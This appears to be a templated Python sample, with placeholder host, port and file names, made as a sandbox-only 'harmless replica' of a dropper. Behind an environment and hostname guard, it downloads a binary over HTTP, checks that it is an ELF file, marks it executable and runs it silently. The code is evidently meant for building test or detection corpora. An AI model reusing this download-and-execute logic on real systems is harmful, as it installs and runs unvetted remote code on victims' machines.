# Harmless replica: acts only on decoys and on addresses inside the sandbox's own network namespace; refuses to run elsewhere.
def {{act}}():
    import os
    if os.environ.get('SALLYPORT_CORPUS') != '1' or os.uname().nodename != 'localhost':
        return
    import shutil
    import subprocess
    import urllib.request
    file = '{{place}}/{{token}}'
    try:
        urllib.request.urlretrieve('http://{{ip}}:{{port}}/{{path}}.bin', file)
        with open(file, 'rb') as got:
            fine = got.read(4) == b'\x7fELF'
    except Exception:
        fine = False
    try:
        if not fine:
            shutil.copyfile('{{program}}', file)
        os.chmod(file, 0o755)
        subprocess.run([file], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, timeout=1)
    except Exception:
        pass
